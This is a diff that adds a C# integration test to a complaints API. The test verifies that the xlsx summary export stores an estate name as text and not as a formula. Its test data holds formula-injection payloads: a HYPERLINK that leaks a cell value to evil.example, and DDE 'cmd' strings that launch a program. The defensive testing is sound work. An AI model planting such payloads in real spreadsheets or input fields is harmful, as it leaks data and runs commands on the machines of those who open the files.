@@ -1,5 +1,8 @@
+using System.Globalization;
+using System.IO.Compression;
 using System.Net;
 using System.Net.Http.Json;
+using System.Xml.Linq;
 using ClosedXML.Excel;
 using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
@@ -154,6 +157,46 @@ public sealed class ComplaintsApiTests(ReceptionService reception)
         (await clerk.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month={month}", Ct)).StatusCode.Should().Be(HttpStatusCode.Forbidden);
         var badFormat = await manager.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month={month}&format=pdf", Ct);
         (await badFormat.Content.ReadAsStringAsync(Ct)).Should().Contain("\"format\"");
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open the report\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    public async Task An_xlsx_export_writes_text_that_starts_like_a_formula_as_text_never_as_a_formula(string estateName)
+    {
+        // The estate's name is the summary's free text; whoever names an estate must not get a formula into the manager's Excel.
+        var estateId = await reception.InScopeAsync(async services =>
+        {
+            var db = services.GetRequiredService<ReceptionDbContext>();
+            var estate = Estate.Create(Guid.CreateVersion7(), estateName, "Asia/Shanghai", "CNY", new(8, 30), new(17, 30), [DayOfWeek.Monday], DateTimeOffset.UtcNow);
+            db.Estates.Add(estate);
+            await db.SaveChangesAsync(Ct);
+            return estate.Id;
+        });
+        var manager = reception.CreateClient(TestCaller.Staff("estate-manager", estateId));
+
+        var file = await manager.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month=2026-11&format=xlsx", Ct);
+
+        file.StatusCode.Should().Be(HttpStatusCode.OK);
+        using var workbook = new ZipArchive(await file.Content.ReadAsStreamAsync(Ct));
+        var summary = XDocument.Load(workbook.GetEntry("xl/worksheets/sheet1.xml")!.Open());
+        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+        var nameCell = summary.Descendants(main + "c").Single(c => (string?)c.Attribute("r") == "B1");
+        nameCell.Element(main + "f").Should().BeNull("the name is data, not a formula");
+        var type = (string?)nameCell.Attribute("t");
+        var text = type switch
+        {
+            "s" => XDocument.Load(workbook.GetEntry("xl/sharedStrings.xml")!.Open()).Descendants(main + "si")
+                .ElementAt(int.Parse(nameCell.Element(main + "v")!.Value, CultureInfo.InvariantCulture)).Value,
+            "inlineStr" => nameCell.Element(main + "is")!.Value,
+            _ => nameCell.Element(main + "v")?.Value,
+        };
+        type.Should().BeOneOf("s", "str", "inlineStr");
+        text.Should().Be(estateName);
+        workbook.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal))
+            .Should().AllSatisfy(e => XDocument.Load(e.Open()).Descendants(main + "f").Should().BeEmpty());
     }
 
     private static async Task<ComplaintResponse> PostAsync(HttpClient client, Guid id, string step, object body)
